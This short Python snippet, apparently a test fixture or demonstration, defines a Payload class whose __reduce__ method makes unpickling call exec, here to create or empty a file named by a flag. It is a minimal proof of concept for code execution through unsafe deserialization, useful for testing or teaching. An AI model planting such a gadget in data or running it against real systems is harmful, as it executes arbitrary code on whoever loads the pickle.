"A pickle that does something when it is opened."

class Payload:
    "What a pickle can do"
    def __init__(self, flag): self.flag = str(flag)
    def __reduce__(self): return exec, (f"open({self.flag!r}, 'w').close()",)
